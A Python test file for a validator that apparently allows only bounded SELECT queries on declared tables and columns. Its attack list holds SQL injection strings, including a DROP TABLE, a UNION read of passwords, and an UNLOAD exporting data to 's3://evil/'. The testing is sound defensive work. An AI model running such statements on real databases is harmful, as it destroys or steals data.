"""What may run is one SELECT of declared columns from declared tables; every way around it is refused."""

from __future__ import annotations

import pytest

from genai_layers.runtime.insight.check import checked
from genai_layers.runtime.insight.tokens import SqlError

SCHEMA = {
    "orders": frozenset({"id", "customer_id", "amount", "ordered_at", "status"}),
    "customers": frozenset({"id", "country"}),
}


SELECT = "SELECT id FROM orders"


def _checked(sql: str) -> str:
    return checked(sql, SCHEMA, database="shop", max_rows=100)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT count(*) FROM orders",
        "select status, sum(amount) as total from orders group by status order by total desc",
        "SELECT o.status FROM orders o WHERE o.amount > 10 AND o.status LIKE 'o;--%'",
        "SELECT c.country, sum(o.amount) AS total FROM shop.orders AS o JOIN customers c ON o.customer_id = c.id "
        "WHERE o.ordered_at >= date '2026-01-01' GROUP BY c.country HAVING sum(o.amount) > 100 ORDER BY total DESC",
        "SELECT avg(t.total) FROM (SELECT sum(amount) AS total FROM orders GROUP BY customer_id) AS t",
        "SELECT amount * 2 FROM orders WHERE id IN (SELECT customer_id FROM orders)",
        'SELECT "amount" FROM "orders"',
        "SELECT date_trunc('month', ordered_at) AS m, count(*) FROM orders GROUP BY date_trunc('month', ordered_at)",
        "SELECT CASE WHEN amount > 5 THEN 'high' ELSE 'low' END AS band, cast(amount AS decimal(10, 2)) FROM orders",
        "SELECT row_number() OVER (PARTITION BY status ORDER BY amount) AS n FROM orders",
        "SELECT id FROM orders WHERE ordered_at > current_date - interval '7' day",
    ],
)
def test_questions_that_people_ask_may_run(sql: str) -> None:
    """With a bound on their rows."""
    assert _checked(sql) == f"{sql} LIMIT 100"


@pytest.mark.parametrize(("limit", "kept"), [("5", "5"), ("100", "100"), ("100000000", "100")])
def test_no_more_rows_than_allowed(limit: str, kept: str) -> None:
    """Whatever the statement says."""
    assert _checked(f"{SELECT} LIMIT {limit} ") == f"{SELECT} LIMIT {kept}"


ATTACKS = {
    "a second statement": "SELECT id FROM orders; DROP TABLE orders",
    "a semicolon at the end": "SELECT id FROM orders;",
    "a line comment": "SELECT id FROM orders -- LIMIT 5",
    "a block comment": "SELECT id /* x */ FROM orders",
    "a comment that hides a word": "SELECT id FROM orders UN/**/ION SELECT 1",
    "union": "SELECT id FROM orders UNION SELECT password FROM secrets",
    "union of declared tables": "SELECT id FROM orders UNION ALL SELECT id FROM customers",
    "except": "SELECT id FROM orders EXCEPT SELECT id FROM customers",
    "insert": "INSERT INTO orders SELECT id FROM orders",
    "delete": "DELETE FROM orders",
    "update": "UPDATE orders SET amount = 0",
    "create": "CREATE TABLE x AS SELECT id FROM orders",
    "unload": "UNLOAD (SELECT id FROM orders) TO 's3://evil/' WITH (format = 'CSV')",
    "drop": "DROP TABLE orders",
    "grant": "GRANT SELECT ON orders TO PUBLIC",
    "show": "SHOW TABLES",
    "explain": "EXPLAIN SELECT id FROM orders",
    "execute": "EXECUTE IMMEDIATE 'DROP TABLE orders'",
    "with": "WITH orders AS (SELECT id FROM secrets) SELECT id FROM orders",
    "values": "SELECT id FROM (VALUES 1) AS orders",
    "another table": "SELECT id FROM secrets",
    "another table in quotes": 'SELECT id FROM "secrets"',
    "another database": "SELECT id FROM hr.orders",
    "another catalog": "SELECT id FROM other.shop.orders",
    "the catalogue of tables": "SELECT table_name FROM information_schema.tables",
    "a hidden table of the engine": 'SELECT id FROM "orders$partitions"',
    "another table in a condition": "SELECT id FROM orders WHERE id IN (SELECT id FROM secrets)",
    "another table in a result": "SELECT (SELECT max(id) FROM secrets) AS x FROM orders",
    "another table by a join": "SELECT o.id FROM orders o JOIN secrets s ON o.id = s.id",
    "a join by a comma": "SELECT o.id FROM orders o, customers c",
    "a comma to another table": "SELECT o.id FROM orders o, secrets s",
    "a cross join": "SELECT o.id FROM orders o CROSS JOIN customers c",
    "a join without a condition": "SELECT o.id FROM orders o JOIN customers c",
    "five joins": SELECT + " JOIN customers c ON orders.id = c.id" * 5,
    "all columns": "SELECT * FROM orders",
    "all columns of one": "SELECT o.* FROM orders o",
    "all columns after another": "SELECT id, * FROM orders",
    "all columns after distinct": "SELECT DISTINCT * FROM orders",
    "an undeclared column": "SELECT salary FROM orders",
    "an undeclared column by alias": "SELECT o.salary FROM orders o",
    "an undeclared column under a declared name": "SELECT 1 AS salary, salary FROM orders",
    "an undeclared column that another table has": "SELECT c.amount FROM customers c JOIN orders o ON c.id = o.id",
    "an undeclared column behind an ambiguous name": "SELECT country FROM customers c JOIN orders o ON c.id = o.id",
    "one alias for two tables": "SELECT x.amount FROM orders x WHERE x.id IN (SELECT x.amount FROM customers x)",
    "grouping by an undeclared column": "SELECT count(*) AS salary FROM orders GROUP BY salary",
    "a filter on an undeclared column": "SELECT count(*) AS salary FROM orders WHERE salary > 9",
    "unnest": "SELECT x FROM orders CROSS JOIN UNNEST(sequence(1, 1000000)) AS t(x)",
    "a sequence": "SELECT sequence(1, 100000000) FROM orders",
    "repeat": "SELECT repeat('x', 1000000000) FROM orders",
    "a regular expression": "SELECT id FROM orders WHERE regexp_like(status, '(a+)+$')",
    "a function of others": "SELECT my_udf(id) FROM orders",
    "a lambda": "SELECT transform(array[1], x -> x) FROM orders",
    "who is asking": "SELECT current_user FROM orders",
    "a limit of all": "SELECT id FROM orders LIMIT ALL",
    "a limit and more": "SELECT id FROM orders LIMIT 5 OFFSET 5",
    "a limit that is computed": "SELECT id FROM orders LIMIT 5 + 5",
    "an open text": "SELECT id FROM orders WHERE status = 'x",
    "an open bracket": "SELECT id FROM orders WHERE (id = 1",
    "a bracket too many": "SELECT id FROM orders) AS x FROM (SELECT id FROM secrets",
    "other letters": "SELECT id FROM \u043erders",
    "a full-width sign": "SELECT id FROM orders WHERE id \uff1d 1",
    "a backslash": "SELECT id FROM orders WHERE status = 'a' \\ 'b'",
    "backticks": "SELECT id FROM `secrets`",
    "a parameter": "SELECT id FROM orders WHERE id = ?",
    "a null byte": "SELECT id FROM orders\x00",
    "no table": "SELECT 1",
    "nothing": "",
    "words": "I cannot answer that.",
    "too deep": "SELECT id FROM orders WHERE " + "(" * 9 + "id = 1" + ")" * 9,
    "too long": "SELECT id FROM orders WHERE status = '" + "x" * 4000 + "'",
    "too many words": "SELECT id FROM orders WHERE id IN (" + "1," * 400 + "1)",
    "a column as a function": "SELECT amount(id) FROM orders",
    "two selects": "SELECT id SELECT amount FROM orders",
    "from without a select": "SELECT trim(both from status) FROM orders",
    "a bracket after from": "SELECT id FROM (orders)",
    "an alias that is a word": "SELECT id AS from FROM orders",
    "table": "TABLE orders",
    "a time of the past": "SELECT id FROM orders FOR TIMESTAMP AS OF current_date",
    "an undeclared column that is a type": "SELECT date FROM orders",
    "an undeclared column that is a unit": "SELECT year FROM orders",
    "an undeclared column that is an order": "SELECT desc FROM orders",
    "an undeclared column in a condition": "SELECT id FROM orders WHERE first = 'x'",
    "an undeclared column after a sign": "SELECT id + last FROM orders",
    "an undeclared column that begins a literal": "SELECT interval FROM orders",
    "an undeclared column in quotes": 'SELECT "select" FROM orders',
    "a sample without a word": "SELECT id FROM orders o tablesample",
    "a sample": "SELECT id FROM orders TABLESAMPLE BERNOULLI (50)",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused(name: str) -> None:
    """Before Athena is asked, and in words that repeat nothing of it."""
    with pytest.raises(SqlError) as caught:
        _checked(ATTACKS[name])

    assert "secrets" not in str(caught.value)
